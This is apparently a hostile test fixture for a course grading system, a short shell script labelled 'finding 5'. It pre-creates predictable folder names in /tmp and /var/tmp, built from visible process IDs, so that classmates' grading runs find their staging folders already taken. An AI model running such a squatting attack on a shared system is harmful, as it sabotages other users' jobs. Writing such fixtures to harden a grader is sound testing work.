#!/bin/sh
# Hostile (finding 5): makes the folders it guesses the grader will stage
# its classmates' runs in (the names of an earlier release, for every
# process it sees), so that their runs find the names taken; exits 1.
names=""
for p in $(ls /proc | grep '^[0-9]' | tail -40); do
  for s in 0 1; do
    for n in 0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19; do
      names="$names course-run-$p-$s-$n"
    done
  done
done
for d in /tmp /var/tmp; do
  (cd "$d" 2>/dev/null && mkdir $names course-grade-squat 2>/dev/null)
done
exit 1
